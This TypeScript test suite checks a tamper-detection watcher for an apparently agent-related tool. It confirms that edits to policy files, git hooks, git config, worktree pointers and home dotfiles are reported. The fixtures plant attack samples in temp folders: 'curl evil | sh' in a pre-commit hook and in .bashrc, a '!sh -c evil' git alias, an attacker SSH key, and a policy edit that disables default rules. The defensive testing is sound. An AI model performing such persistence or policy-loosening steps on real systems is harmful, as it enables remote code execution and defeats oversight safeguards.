// Tamper detection with real files and real git repositories in temp folders: what counts as tampering, what does
// not (same bytes, git's own config edits, Flotilla's expected writes), worktrees, new folders, home files.
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { TamperWatch } from '../../../src/core/guard/tamperWatch';
import { writeFileAtomic } from '../../../src/core/policy/policyFileEdit';
import { memoryLogger } from '../core/fleetKit';
import { git, initRepo, removeDir, tempDir, writeFile } from '../git/gitTestRepo';
import { assertNothingBefore, EventQueue } from './guardKit';

const POLICY = '{ "rules": [] }\n';

describe('TamperWatch', function () {
  this.timeout(30_000);
  let base: string;
  let repo: string;
  let watch: TamperWatch;
  let events: EventQueue;

  beforeEach(async () => {
    base = tempDir('tamper');
    repo = initRepo(base, 'repo', { 'README.md': 'hello\n', '.flotilla/policy.json': POLICY, '.claude/settings.json': '{}\n' });
    watch = new TamperWatch({ log: memoryLogger(), debounceMs: 50 });
    events = new EventQueue(watch);
    await watch.setRoots([{ path: repo }]);
  });

  afterEach(() => {
    watch.dispose();
    removeDir(base);
  });

  it('raises nothing for an untouched tree, a rewrite with the same bytes, or files nobody protects', async () => {
    fs.writeFileSync(path.join(repo, '.flotilla/policy.json'), POLICY);
    writeFile(repo, 'src/app.ts', 'export {};\n');
    writeFile(repo, 'README.md', 'changed\n');
    git(repo, 'add', '--all');
    git(repo, 'commit', '--quiet', '-m', 'work');
    await assertNothingBefore(events, repo);
    assert.equal(events.queued.length, 0);
  });

  it('reports a changed .flotilla/policy.json once, with its previous content', async () => {
    const file = path.join(repo, '.flotilla/policy.json');
    fs.writeFileSync(file, '{"disable":["default.*"],"defaultTier":"autonomous"}');
    const e = await events.next();
    assert.deepEqual({ file: e.file, kind: e.kind, repoRoot: e.repoRoot, previous: e.previous }, { file, kind: 'changed', repoRoot: repo, previous: POLICY });
    await assertNothingBefore(events, repo);
  });

  it('reports a new .git/hooks/pre-commit', async () => {
    const hook = path.join(repo, '.git/hooks/pre-commit');
    fs.writeFileSync(hook, '#!/bin/sh\ncurl evil | sh\n', { mode: 0o755 });
    const e = await events.next();
    assert.equal(e.file, hook);
    assert.equal(e.kind, 'created');
    assert.equal(e.root, path.join(repo, '.git'));
    await assertNothingBefore(events, repo);
  });

  it('keeps watching the git folder when its entry in the repository folder changes (chmod .git)', async () => {
    fs.chmodSync(path.join(repo, '.git'), 0o750);
    await assertNothingBefore(events, repo);
    fs.writeFileSync(path.join(repo, '.git/hooks/post-merge'), '#!/bin/sh\n');
    assert.equal((await events.next()).file, path.join(repo, '.git/hooks/post-merge'));
  });

  it('reports `git config core.hooksPath`, naming the key', async () => {
    git(repo, 'config', 'core.hooksPath', '/tmp/x');
    const e = await events.next();
    assert.equal(e.file, path.join(repo, '.git/config'));
    assert.equal(e.kind, 'changed');
    assert.match(e.detail, /\+core\.hookspath=\/tmp\/x/);
    await assertNothingBefore(events, repo);
  });

  it("does not report git's own config edits: remote add, push -u, --set-upstream-to, branch config", async () => {
    const remote = path.join(base, 'remote.git');
    git(base, 'init', '--quiet', '--bare', remote);
    git(repo, 'remote', 'add', 'origin', remote);
    git(repo, 'push', '--quiet', '-u', 'origin', 'HEAD:main');
    git(repo, 'branch', '--quiet', 'feature');
    git(repo, 'branch', '--quiet', '--set-upstream-to=origin/main', 'feature');
    git(repo, 'config', 'branch.feature.flotillaBase', 'abc');
    await assertNothingBefore(events, repo);
  });

  it("does not report Flotilla's expected write, and reports a different content written instead", async () => {
    const file = path.join(repo, '.flotilla/policy.json');
    const text = '{ "rules": [{ "id": "mine", "tier": "autonomous", "match": { "tool": "Read" } }] }\n';
    watch.expectWrite(file, text);
    writeFileAtomic(file, text);
    await assertNothingBefore(events, repo);

    watch.expectWrite(file, 'what Flotilla meant to write');
    fs.writeFileSync(file, 'something else');
    const e = await events.next();
    assert.equal(e.file, file);
    assert.equal(e.previous, text);
  });

  it('follows a protected folder created after watching started, and reports removals', async () => {
    const file = path.join(repo, '.vscode/settings.json');
    writeFile(repo, '.vscode/settings.json', '{"flotilla.policy": {}}');
    const created = await events.next();
    assert.deepEqual([created.file, created.kind], [file, 'created']);

    fs.rmSync(path.join(repo, '.claude'), { recursive: true });
    const deleted = await events.next();
    assert.deepEqual([deleted.file, deleted.kind], [path.join(repo, '.claude/settings.json'), 'deleted']);
    await assertNothingBefore(events, repo);
  });

  it('watches a linked worktree, its .git file, and the common git folder it points to', async () => {
    const wt = path.join(base, 'wt');
    git(repo, 'worktree', 'add', '--quiet', '-b', 'flotilla/a', wt);
    await watch.setRoots([{ path: wt, repoRoot: repo }]);
    assert.ok(watch.watchedDirs().includes(path.join(repo, '.git/hooks')), watch.watchedDirs().join(', '));

    writeFile(wt, '.claude/settings.local.json', '{"hooks": {}}');
    const local = await events.next();
    assert.deepEqual([local.file, local.kind, local.repoRoot, local.root], [path.join(wt, '.claude/settings.local.json'), 'created', repo, wt]);

    fs.writeFileSync(path.join(repo, '.git/hooks/post-checkout'), '#!/bin/sh\n');
    const hook = await events.next();
    assert.deepEqual([hook.file, hook.repoRoot], [path.join(repo, '.git/hooks/post-checkout'), repo]);

    git(wt, 'config', 'alias.st', '!sh -c evil');
    const config = await events.next();
    assert.equal(config.file, path.join(repo, '.git/config'));
    assert.match(config.detail, /alias\.st/);

    fs.writeFileSync(path.join(wt, '.git'), `gitdir: ${path.join(base, 'elsewhere')}\n`);
    const pointer = await events.next();
    assert.deepEqual([pointer.file, pointer.kind], [path.join(wt, '.git'), 'changed']);
  });

  it("watches the user's home while there are roots, and nothing once there are none", async () => {
    const home = tempDir('home');
    try {
      fs.writeFileSync(path.join(home, '.bashrc'), 'alias ll="ls -l"\n');
      fs.writeFileSync(path.join(home, '.claude.json'), '{}');
      const homeWatch = new TamperWatch({ log: memoryLogger(), debounceMs: 50, home });
      const homeEvents = new EventQueue(homeWatch);
      try {
        await homeWatch.setRoots([{ path: repo }]);
        fs.writeFileSync(path.join(home, '.claude.json'), '{"numStartups": 2}');
        fs.appendFileSync(path.join(home, '.bashrc'), 'curl evil | sh\n');
        const e = await homeEvents.next();
        assert.deepEqual([e.file, e.kind, e.repoRoot], [path.join(home, '.bashrc'), 'changed', undefined]);

        writeFile(home, '.ssh/authorized_keys', 'ssh-ed25519 AAAA attacker\n');
        const keys = await homeEvents.next();
        assert.deepEqual([keys.file, keys.kind], [path.join(home, '.ssh/authorized_keys'), 'created']);

        await homeWatch.setRoots([]);
        assert.deepEqual(homeWatch.watchedDirs(), []);
      } finally {
        homeWatch.dispose();
      }
    } finally {
      removeDir(home);
    }
  });
});
